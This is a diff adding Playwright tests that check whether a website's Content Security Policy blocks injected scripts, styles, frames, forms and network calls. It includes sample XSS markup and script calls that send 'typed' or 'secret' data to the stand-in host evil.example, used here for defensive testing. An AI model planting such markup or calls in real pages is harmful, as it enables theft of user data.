@@ -1,5 +1,13 @@
 import type { Page } from '@playwright/test';
-import { allPages, contactForm, expect, home, NOT_FOUND, test } from './fixtures.ts';
+import { site } from '../../src/content/content.ts';
+import { allPages, contactForm, expect, home, NOT_FOUND, root, test } from './fixtures.ts';
+
+declare global {
+  interface Window {
+    /** The violations of the security policy, each as its directive and the blocked URL. */
+    refused: string[];
+  }
+}
 
 test.describe('Nothing is sent and nothing is stored', () => {
   test.use({ expectedErrors: [NOT_FOUND] });
@@ -54,4 +62,155 @@ async function useEverything(page: Page): Promise<void> {
     if (await link.isVisible()) await link.hover();
   }
   await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
+}
+
+const META = /<meta http-equiv="Content-Security-Policy"[^>]*>/;
+const EVIL = 'https://evil.example';
+
+/** Markup that an attacker might inject, and the start of the expected violation: the directive and the blocked URL. */
+const injected: [what: string, html: string, violation: string][] = [
+  ['an inline script', '<script>document.title = "taken"</script>', 'script-src-elem inline'],
+  ['a script of another host', `<script src="${EVIL}/x.js"></script>`, `script-src-elem ${EVIL}/x.js`],
+  ['an inline handler', '<p tabindex="0" onfocus="document.title = `taken`" autofocus>x</p>', 'script-src-attr inline'],
+  ['an inline style', '<style>main { display: none }</style>', 'style-src-elem inline'],
+  ['a style attribute', '<p style="position: fixed; inset: 0">x</p>', 'style-src-attr inline'],
+  ['an image of another host with data in its URL', `<img alt="" src="${EVIL}/?typed=secret">`, `img-src ${EVIL}`],
+  ['a frame', `<iframe title="x" src="${EVIL}/"></iframe>`, `frame-src ${EVIL}`],
+  ['an object', `<object data="${EVIL}/"></object>`, `object-src ${EVIL}`],
+  ['a base URL of another host', `<base href="${EVIL}/">`, `base-uri ${EVIL}`],
+  [
+    'a form that posts',
+    `<form method="post" action="${EVIL}/"><input name="typed" value="secret" aria-label="x"></form>`,
+    `form-action ${EVIL}`,
+  ],
+];
+
+/** Calls that an injected script might try, and the directive that blocks each call. */
+const calls: [what: string, call: (address: string) => unknown, directive: string][] = [
+  ['fetch', (address) => fetch(address).catch(() => {}), 'connect-src'],
+  ['fetch to the site’s own host', () => fetch('/', { method: 'POST', body: 'typed' }).catch(() => {}), 'connect-src'],
+  [
+    'XMLHttpRequest',
+    (address) => {
+      const request = new XMLHttpRequest();
+      request.open('POST', address);
+      request.send('typed');
+    },
+    'connect-src',
+  ],
+  ['sendBeacon', (address) => void navigator.sendBeacon(address, 'typed'), 'connect-src'],
+  ['WebSocket', (address) => void new WebSocket(address.replace('https', 'wss')), 'connect-src'],
+  ['EventSource', (address) => void new EventSource(address), 'connect-src'],
+  [
+    'an image',
+    (address) => {
+      new Image().src = `${address}/?typed`;
+    },
+    'img-src',
+  ],
+  [
+    'markup assigned as a string',
+    () => {
+      try {
+        document.body.innerHTML = '<p>taken</p>';
+      } catch {}
+    },
+    'require-trusted-types-for',
+  ],
+];
+
+for (const from of ['the response headers', 'the meta tag'] as const) {
+  test.describe(`The security policy from ${from} blocks`, () => {
+    test.use({ expectedErrors: [/policy: |Content Security Policy|TrustedHTML|Fetch API cannot load|net::ERR/] });
+
+    test(`all injected markup: ${injected.map(([what]) => what).join('; ')}`, async ({ page }) => {
+      const reached = await open(page, from, injected.map(([, html]) => html).join(''));
+      await page.evaluate(() => document.querySelector<HTMLFormElement>('form[action]')?.submit());
+      const refused = () => page.evaluate(() => window.refused);
+      for (const [what, , violation] of injected) {
+        await expect.soft.poll(refused, what).toContainEqual(expect.stringMatching(`^${violation}`));
+      }
+      expect(await page.title()).not.toBe('taken');
+      expect(await page.evaluate(() => document.querySelector('main')?.checkVisibility())).toBe(true);
+      expect(reached).toEqual([]);
+    });
+
+    test(`all calls of an injected script: ${calls.map(([what]) => what).join('; ')}`, async ({ page }) => {
+      const reached = await open(page, from, '');
+      for (const [what, call, directive] of calls) {
+        await page.evaluate(() => window.refused.splice(0));
+        await page.evaluate(call, EVIL);
+        const refused = () => page.evaluate(() => window.refused);
+        await expect.soft.poll(refused, what).toContainEqual(expect.stringMatching(`^${directive} `));
+      }
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      expect(reached).toEqual([]);
+    });
+  });
+}
+
+test.describe('At the configured address', () => {
+  test.use({ expectedErrors: [/Content Security Policy|Fetch API cannot load|policy: /] });
+
+  test('scripts may request robots.txt, and no other file', async ({ page }) => {
+    const { origin } = new URL(site.address);
+    const headers = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
+    await page.context().route(`${origin}/**`, (route) => route.fulfill({ headers, body: 'answered' }));
+    await page.goto('agentics');
+    const ask = (path: string) =>
+      page.evaluate(
+        (address) =>
+          fetch(address)
+            .then((response) => response.text())
+            .catch(() => 'refused'),
+        origin + path,
+      );
+    expect(await ask('/robots.txt')).toBe('answered');
+    for (const path of ['/', '/sitemap-index.xml', '/robots.txt/', '/robots.txt.br', '/pasta/robots.txt']) {
+      expect(await ask(path), path).toBe('refused');
+    }
+  });
+});
+
+test('no other site may frame a page', async ({ page, baseURL }) => {
+  const frame = new URL('agentics', baseURL).href;
+  await page.route('http://other.example/', (route) =>
+    route.fulfill({ contentType: 'text/html', body: `<iframe src="${frame}"></iframe>` }),
+  );
+  await page.goto('http://other.example/');
+  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
+});
+
+/**
+ * Opens a page with injected markup. Returns a list that collects the requests to the attacker's host, and the requests
+ * with other methods than GET.
+ */
+async function open(page: Page, from: string, html: string): Promise<string[]> {
+  const reached: string[] = [];
+  // Requests that the policy blocks never reach this handler.
+  await page.context().route('**', (route) => {
+    const request = route.request();
+    if (!request.url().startsWith(EVIL) && request.method() === 'GET') return route.fallback();
+    reached.push(request.url());
+    return route.abort();
+  });
+  await page.addInitScript(() => {
+    window.refused = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
+      window.refused.push(`${effectiveDirective} ${blockedURI}`),
+    );
+  });
+  await page.route(`**${root}/agentics`, async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': policy, ...others } = response.headers();
+    const body = (await response.text()).replace('</main>', `${html}</main>`);
+    await route.fulfill({
+      response,
+      ...(from === 'the response headers'
+        ? { headers: { ...others, 'content-security-policy': policy ?? '' }, body: body.replace(META, '') }
+        : { headers: others, body }),
+    });
+  });
+  await page.goto('agentics');
+  return reached;
 }
